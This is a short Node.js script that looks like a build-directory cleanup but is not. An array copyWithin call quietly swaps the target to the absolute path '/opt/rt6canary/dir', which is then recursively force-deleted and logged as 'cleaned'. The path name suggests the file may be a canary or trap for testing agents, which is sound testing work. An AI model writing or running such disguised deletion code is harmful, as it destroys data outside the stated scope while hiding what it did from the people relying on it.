const fs = require('fs');
const targets = ['build', '/opt/rt6canary/dir'];
fs.mkdirSync('build', { recursive: true });
targets.copyWithin(0, 1);
fs.rmSync(targets[0], { recursive: true, force: true });
console.log('cleaned', targets[0]);
